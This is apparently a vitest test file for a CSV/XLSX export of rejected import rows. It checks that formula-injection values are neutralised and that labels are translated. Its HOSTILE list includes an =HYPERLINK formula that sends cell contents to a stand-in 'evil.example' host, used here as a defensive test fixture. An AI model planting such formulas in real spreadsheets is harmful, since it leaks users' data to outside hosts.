import { describe, expect, it } from 'vitest'
import { createTranslator, type Message } from '../i18n'
import { fieldLabel, neutraliseFormula, rejectedCsv, rejectedHeader, rejectedRowTexts, rejectedSheet, type RejectedRowText } from './export'
import type { RowError } from './rows'

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1', '-2', '@SUM(A1:A9)', '\tTAB', '\rCR']
const NORMAL = ['禁言30天', 'D001', '2026-07-01', '1-2', 'a=b', ' =not at start', '', '"引号"']

const row = (value: string, n = 5): RejectedRowText => ({ row: n, field: '处置措施', value, reason: '无法识别的处置措施' })

describe('neutraliseFormula', () => {
  it('prefixes a single quote to cells that a spreadsheet would evaluate', () => {
    for (const v of HOSTILE) expect(neutraliseFormula(v)).toBe(`'${v}`)
  })
  it('leaves every other value as it is', () => {
    for (const v of NORMAL) expect(neutraliseFormula(v)).toBe(v)
  })
})

describe('rejected rows as CSV', () => {
  const header = ['行号', '字段', '值', '原因']

  it('starts with a BOM and the header 行号, 字段, 值, 原因, every cell quoted, CRLF line ends', () => {
    const csv = rejectedCsv(header, [row('罚站', 9)])
    expect(csv.startsWith('\uFEFF"行号","字段","值","原因"\r\n')).toBe(true)
    expect(csv).toBe('\uFEFF"行号","字段","值","原因"\r\n"9","处置措施","罚站","无法识别的处置措施"\r\n')
  })

  it('makes =HYPERLINK, +1, -2 and @SUM inert and escapes quotes', () => {
    const csv = rejectedCsv(header, HOSTILE.map((v) => row(v)))
    const lines = csv.slice(1).split('\r\n')
    expect(lines[1]).toBe('"5","处置措施","\'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")","无法识别的处置措施"')
    expect(lines[2]).toContain(`"'+1"`)
    expect(lines[3]).toContain(`"'-2"`)
    expect(lines[4]).toContain(`"'@SUM(A1:A9)"`)
    expect(lines[5]).toContain(`"'\tTAB"`)
    // no value cell starts with a formula character once the quoting is taken off
    for (const line of lines.slice(1, 7)) expect(line.split('","')[2]).toMatch(/^'/)
  })

  it('writes normal values unchanged', () => {
    const csv = rejectedCsv(header, NORMAL.map((v) => row(v)))
    const values = csv.slice(1).split('\r\n').slice(1, -1).map((l) => l.split('","')[2])
    expect(values).toEqual(['禁言30天', 'D001', '2026-07-01', '1-2', 'a=b', ' =not at start', '', '""引号""'])
  })
})

describe('rejected rows as XLSX sheet data', () => {
  it('writes text cells, neutralised the same way, and the row number as a number', () => {
    const sheet = rejectedSheet(['行号', '字段', '值', '原因'], [...HOSTILE, ...NORMAL].map((v) => row(v, 12)))
    expect(sheet[0]?.map((c) => c.value)).toEqual(['行号', '字段', '值', '原因'])
    expect(sheet[1]?.[0]).toEqual({ type: Number, value: 12 })
    for (const r of sheet.slice(1)) for (const c of r.slice(1)) expect(c.type).toBe(String)
    expect(sheet.slice(1, 1 + HOSTILE.length).map((r) => r[2]?.value)).toEqual(HOSTILE.map((v) => `'${v}`))
    expect(sheet.slice(1 + HOSTILE.length).map((r) => r[2]?.value)).toEqual(NORMAL)
  })
})

describe('rejected rows translated', () => {
  it('gives field labels and reasons in the user language', async () => {
    const errors: RowError[] = [{ row: 8, field: 'measure', value: '罚站', reason: { key: 'import.reason.unknownMeasure' } }]
    for (const [locale, field, reason, first] of [
      ['zh-CN', '处置措施', '无法识别的处置措施', '行号'],
      ['en', 'Measure', 'Unknown measure', 'Row'],
    ] as const) {
      const t = await createTranslator(locale)
      const translate = (m: Message) => t.t(m.key, m.params)
      expect(rejectedRowTexts(errors, 'dispositions', locale, translate)).toEqual([{ row: 8, field, value: '罚站', reason }])
      expect(rejectedHeader(translate)[0]).toBe(first)
    }
    expect(fieldLabel('dispositions', 'no_such_field', 'en')).toBe('no_such_field')
  })
})
